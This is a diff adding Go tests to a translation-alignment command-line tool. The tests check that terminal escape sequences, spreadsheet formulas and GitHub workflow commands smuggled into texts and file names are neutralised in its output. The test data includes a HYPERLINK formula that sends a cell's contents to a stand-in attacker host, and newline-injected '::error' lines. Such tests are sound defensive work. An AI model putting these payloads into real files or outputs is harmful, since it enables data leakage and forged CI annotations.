@@ -141,3 +141,132 @@ func TestMissingEditionGlossary(t *testing.T) {
 		t.Fatalf("exit %d, stderr %q, want %q", code, errb, want)
 	}
 }
+
+// hostileSentence is a sentence an attacker writes: terminal escapes (a
+// window title, a screen clear, the C1 CSI) and a spreadsheet formula.
+const hostileSentence = "Экипажи \x1b]0;PWNED\x07\x1b[2J ушли \u009b31m утром."
+
+// hasTerminalControl reports a control character a terminal obeys (line
+// breaks and tabs aside, which the formats use).
+func hasTerminalControl(s string) bool {
+	for _, r := range s {
+		if r != '\n' && r != '\t' && (r < 0x20 || r == 0x7f || r >= 0x80 && r <= 0x9f) {
+			return true
+		}
+	}
+	return false
+}
+
+// TestTerminalEscapes: a text with escapes is printed escaped by every
+// command that writes lines for a terminal or a log.
+func TestTerminalEscapes(t *testing.T) {
+	dir := t.TempDir()
+	ru := writeFile(t, dir, "ru.txt", "Телеграмма № 5.\n\n"+hostileSentence+"\n\nИнстанция [высшая - NO] решила.\n")
+	en := writeFile(t, dir, "en.txt", "Telegram No. 5.\n\nThe crews \x1b]0;PWNED\x07 left \u009b31m in the morning.\n\nInstantsia [the leadership \x1b[2J - NO] decided.\n")
+	g := writeFile(t, dir, "g.yaml", "entries:\n  - russian: \"Инстанция\\e[2J\"\n    translit: \"instantsiia\\e]0;x\\a\"\n    renderings: [\"Instantsia\\u009b\"]\n")
+	for _, args := range [][]string{
+		{"segment", en},
+		{"segment", "--format", "tsv", en},
+		{"notes", en},
+		{"align", "--format", "tsv", ru, en},
+		{"glossary", "list", g},
+		{"glossary", "export", "--format", "csv", g},
+		{"glossary", "export", "--format", "tsv", g},
+		{"check", "--glossary", g, en},
+		{"check", "--format", "github", "--glossary", g, en},
+	} {
+		code, out, errb := runSverka(t, "", args...)
+		if code > exitFindings {
+			t.Errorf("%v: exit %d: %s", args, code, errb)
+			continue
+		}
+		if hasTerminalControl(out) || hasTerminalControl(errb) {
+			t.Errorf("%v: control characters written:\n%q\n%q", args, out, errb)
+		}
+	}
+}
+
+// TestSpreadsheetFormulas: cells that a spreadsheet would run as formulas
+// are written with a leading ' by every CSV and TSV writer, and an import
+// takes the ' off again.
+func TestSpreadsheetFormulas(t *testing.T) {
+	dir := t.TempDir()
+	formula := `=HYPERLINK("http://evil.example/?x="&A1,"Click")`
+	ru := writeFile(t, dir, "ru.txt", "Телеграмма № 5.\n\n"+formula+"\n\n+Инстанция решила.\n")
+	en := writeFile(t, dir, "en.txt", "Telegram No. 5.\n\n"+formula+"\n\n@Instantsia decided.\n")
+	g := writeFile(t, dir, "g.yaml", "entries:\n  - russian: \"=Инстанция\"\n    renderings: [\"-Instantsia\", \"@SUM(A1)\"]\n    note: \"+1 cmd\"\n")
+	bad := func(cell string) bool { return cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) }
+	for _, tc := range []struct {
+		args []string
+		sep  string
+	}{
+		{[]string{"glossary", "export", "--format", "csv", g}, ","},
+		{[]string{"glossary", "export", "--format", "tsv", g}, "\t"},
+		{[]string{"export", "--format", "tsv", ru, en}, "\t"},
+		{[]string{"align", "--format", "tsv", ru, en}, "\t"},
+		{[]string{"segment", "--format", "tsv", en}, "\t"},
+	} {
+		code, out, errb := runSverka(t, "", tc.args...)
+		if code != exitClean {
+			t.Errorf("%v: exit %d: %s", tc.args, code, errb)
+			continue
+		}
+		for _, line := range strings.Split(out, "\n") {
+			for _, cell := range strings.Split(line, tc.sep) {
+				if bad(strings.TrimPrefix(cell, `"`)) {
+					t.Errorf("%v: cell %q starts a formula", tc.args, cell)
+				}
+			}
+		}
+		if !strings.Contains(out, "'=") {
+			t.Errorf("%v: no formula written with its ':\n%s", tc.args, out)
+		}
+	}
+	// The round trip: export, import, and the terms are as they were.
+	_, csvOut, _ := runSverka(t, "", "glossary", "export", "--format", "csv", g)
+	back := writeFile(t, dir, "back.csv", csvOut)
+	code, yamlOut, errb := runSverka(t, "", "glossary", "import", back)
+	if code != exitClean || !strings.Contains(yamlOut, `=Инстанция`) || strings.Contains(yamlOut, `'=Инстанция`) ||
+		!strings.Contains(yamlOut, "-Instantsia") || strings.Contains(yamlOut, "'-Instantsia") || !strings.Contains(yamlOut, "+1 cmd") {
+		t.Errorf("import of the export: exit %d %s\n%s", code, errb, yamlOut)
+	}
+}
+
+// commandLine reports a line of out that a GitHub runner would read as a
+// workflow command other than sverka's own annotations on standard output.
+func commandLine(out string) string {
+	for _, line := range strings.Split(out, "\n") {
+		if strings.HasPrefix(line, "::") && !strings.Contains(line, "title=sverka ") {
+			return line
+		}
+	}
+	return ""
+}
+
+// TestWorkflowCommandInjection: a file name or a text with line breaks
+// cannot make sverka print a line a GitHub runner reads as a command.
+func TestWorkflowCommandInjection(t *testing.T) {
+	inject := "\n::error file=README.md,line=1::INJECTED\n"
+	dir := exampleEdition(t)
+	cfg := filepath.Join(dir, "sverka.yaml")
+	// A sverka.yaml naming a file with line breaks in its name.
+	writeFile(t, dir, "sverka.yaml", "pairs:\n  - source: \"ru/nope\\n::error file=README.md,line=1::INJECTED\\n.txt\"\n    target: en.txt#1\n")
+	code, out, errb := runSverka(t, "", "check", "--format", "github", "--config", cfg)
+	if code != exitBad || commandLine(out+errb) != "" {
+		t.Errorf("file name in sverka.yaml: exit %d, line %q\n%s", code, commandLine(out+errb), errb)
+	}
+	// The same through a glossary named on the command line.
+	code, out, errb = runSverka(t, "", "check", "--format", "github", "--glossary", dir+"/g"+inject+".yaml", filepath.Join(dir, "en.txt"))
+	if code != exitBad || commandLine(out+errb) != "" {
+		t.Errorf("glossary name: exit %d, line %q\n%s", code, commandLine(out+errb), errb)
+	}
+	// segment's warning about the lines before the first document names
+	// the file.
+	en := writeFile(t, dir, "page"+inject+".txt", "Главная страница архива\nНовости\nКонтакты\n\n"+
+		"Document 1: Ciphered telegram from Lavrentyev to Stalin, 14 March 1951\n\nThe crews left.\n\n"+
+		"Document 2: Ciphered telegram from Lavrentyev to Stalin, 15 March 1951\n\nThe crews came back.\n")
+	code, out, errb = runSverka(t, "", "segment", en)
+	if code != exitClean || commandLine(out+errb) != "" || !strings.Contains(errb, "before the first document") {
+		t.Errorf("segment warning: exit %d, line %q\n%s", code, commandLine(out+errb), errb)
+	}
+}
